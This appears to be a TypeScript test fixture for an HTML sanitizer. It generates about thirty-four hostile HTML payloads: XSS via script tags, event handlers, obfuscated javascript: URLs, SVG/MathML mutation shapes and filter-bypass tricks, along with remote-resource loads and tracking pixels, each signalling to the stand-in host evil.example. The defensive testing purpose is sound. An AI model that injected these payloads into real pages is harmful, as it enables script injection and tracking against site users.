/** What a payload's script does if it ever runs: phone home (counted) and tell the top page. */
export function ran(n: number): string {
  return `fetch('http://evil.example/ran/${n}');top.postMessage('ran:${n}','*')`;
}

/**
 * Hostile HTML bodies: script, handlers, javascript: URLs, SVG/MathML, meta refresh, forms,
 * <base>, CSS that loads remote resources, remote images and pixels, srcdoc nesting and
 * mutation-XSS shapes. Any script that runs phones home; any resource that loads is counted.
 */
export function hostilePayloads(): string[] {
  const list: Array<(n: number) => string> = [
    (n) => `<p>hi</p><script>${ran(n)}</script>`,
    (n) => `<img src=x onerror="${ran(n)}">`,
    (n) => `<body onload="${ran(n)}"><p>body</p></body>`,
    (n) => `<a href="javascript:${ran(n)}">click me</a>`,
    (n) => `<a href="JaVaScRiPt:${ran(n)}">mixed case</a>`,
    (n) => `<a href="&#106;avascript:${ran(n)}">entity</a>`,
    (n) => `<svg onload="${ran(n)}"><script>${ran(n)}</script></svg>`,
    (n) => `<svg><a xlink:href="javascript:${ran(n)}"><text y="20">svg link</text></a></svg>`,
    (n) => `<math><mtext><table><mglyph><style><img src=x onerror="${ran(n)}"></style></mglyph></table></mtext></math>`,
    () => `<meta http-equiv="refresh" content="0;url=http://evil.example/refresh"><p>refresh</p>`,
    (n) =>
      `<form action="http://evil.example/form"><input name=a autofocus onfocus="${ran(n)}"><button>Go</button></form>`,
    () => `<base href="http://evil.example/"><a href="relative">relative</a><img src="relative.png">`,
    () => `<style>@import url(http://evil.example/import.css);</style><p>import</p>`,
    () => `<div style="background:url(http://evil.example/bg.png)">background</div>`,
    () => `<style>body{background-image:url('http://evil.example/body.png')}</style><p>css bg</p>`,
    () => `<p>pixel</p><img src="http://evil.example/pixel.gif" width="1" height="1">`,
    () => `<img src="https://evil.example/photo.jpg" alt="photo">`,
    (n) => `<iframe srcdoc="<script>${ran(n).replace(/'/g, '&#39;')}</script>"></iframe>`,
    (n) => `<iframe src="javascript:${ran(n)}"></iframe>`,
    () => `<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/e.swf">`,
    (n) => `<noscript><p title="</noscript><img src=x onerror=${ran(n).replace(/'/g, '&#39;')}>"></noscript>`,
    (n) => `<details open ontoggle="${ran(n)}"><summary>toggle</summary></details>`,
    () => `<video poster="http://evil.example/poster.png"><source src="http://evil.example/v.mp4"></video>`,
    () => `<link rel="stylesheet" href="http://evil.example/l.css"><p>link</p>`,
    () => `<img srcset="http://evil.example/srcset.png 1x" alt="srcset">`,
    (n) => `<a href="data:text/html,<script>${ran(n)}</script>">data link</a>`,
    (n) => `<svg><style><img src=x onerror="${ran(n)}"></style></svg>`,
    () => `<table background="http://evil.example/tbg.png"><tr><td>table</td></tr></table>`,
    () => `<input type="image" src="http://evil.example/input.png">`,
    () => `<style>@font-face{font-family:x;src:url(http://evil.example/f.woff)} p{font-family:x}</style><p>font</p>`,
    (n) => `<div style="width:expression(${ran(n)})">expression</div>`,
    (n) => `<<script>script>${ran(n)}<</script>/script>`,
    (n) => `<a href=" javascript:${ran(n)}">leading space</a>`,
    (n) => `<svg><animate onbegin="${ran(n)}" attributeName="x" dur="1s"/></svg>`,
  ];
  return list.map((make, n) => `<html><body><!-- payload ${n} -->${make(n)}</body></html>`);
}
